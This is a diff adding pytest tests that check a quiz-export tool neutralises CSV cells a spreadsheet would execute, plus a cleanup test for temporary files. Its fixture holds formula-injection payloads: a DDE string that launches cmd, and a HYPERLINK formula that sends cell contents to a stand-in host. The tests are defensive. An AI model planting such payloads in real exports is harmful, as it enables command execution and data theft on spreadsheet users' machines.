@@ -412,3 +412,77 @@ def test_no_figure_ever_comes_from_fewer_than_five_answers(library, isolated, an
         assert topic["result"] is None or topic["answers"] >= 5
     shown_questions = [q for q in document["questions"] if not q["suppressed"]]
     assert (document["answers"] or 0) == sum(q["answers"] for q in shown_questions)
+
+
+HOSTILE_TEXTS = {  # what a trainer may type, and what a spreadsheet would run
+    "text": '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
+    "140": "+cmd|' /C calc'!A0",
+    "280": "-2+3",
+    "500": "@SUM(1+1)",
+}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path, isolated, capsys):
+    from workshop.content import load_library
+
+    own = tmp_path / "own"
+    own.mkdir()
+    module = (Path(__file__).parent / "content" / "test-quiz.yaml").read_text("utf-8")
+    module = module.replace(
+        '{en: "How many characters may a post on X have?"',
+        "{en: " + json.dumps(HOSTILE_TEXTS["text"]),
+    ).replace(
+        "options: [140, 280, 500]",
+        "options: " + json.dumps([HOSTILE_TEXTS[o] for o in ("140", "280", "500")]),
+    )
+    (own / "test-quiz.yaml").write_text(module, "utf-8")
+    library = load_library([own])
+    session = run_session(library, isolated, "sales", {"test-length": [1, 2, 3, 2, 2, None]})
+    folder = tmp_path / "out"
+    folder.mkdir()
+    code = main(["export", session.id, "--format", "csv", "-o", str(folder), "--modules", str(own)])
+    assert code == 0, capsys.readouterr().err
+    raw = (folder / f"{session.id}.csv").read_text("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(raw)))
+    length = rows[0]
+    assert length["question"] == "'" + HOSTILE_TEXTS["text"]
+    assert length["correct_answer"] == "'" + HOSTILE_TEXTS["280"]
+    assert length["distribution"].startswith("'" + HOSTILE_TEXTS["140"] + ": 1; ")
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+            assert not value.startswith("-") or re.fullmatch(r"-\d+([.,]\d+)?", value), value
+
+
+def test_an_export_killed_mid_write_leaves_no_temporary_file_for_long(
+    library, isolated, session, capsys
+):
+    folder = isolated / "exports"
+    folder.mkdir()
+    target = folder / f"{session.id}.md"
+    old = folder / f".{target.name}.0badcafe.tmp"  # as write_atomic names its file
+    young = folder / f".{target.name}.1badcafe.tmp"  # another export's, under way
+    for leftover in (old, young):
+        leftover.write_bytes(b"half an exp")
+    os.utime(old, (os.path.getmtime(old) - 3600,) * 2)
+    code, _, err = export(capsys, session.id, "--format", "md")
+    assert (code, err) == (0, "")
+    assert target.is_file() and not old.exists() and young.exists()
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("\tcmd", "'\tcmd"),
+        ("\r=1", "'\r=1"),
+        ("-", "'-"),
+        ("-10", "-10"),  # a number stays a number
+        ("-2,5", "-2,5"),
+        ("e=mc2", "e=mc2"),
+        (3, 3),
+    ],
+)
+def test_a_csv_cell_starting_with_a_tab_or_return_is_neutralised_too(value, written):
+    from workshop.export.formats import cell
+
+    assert cell(value) == written
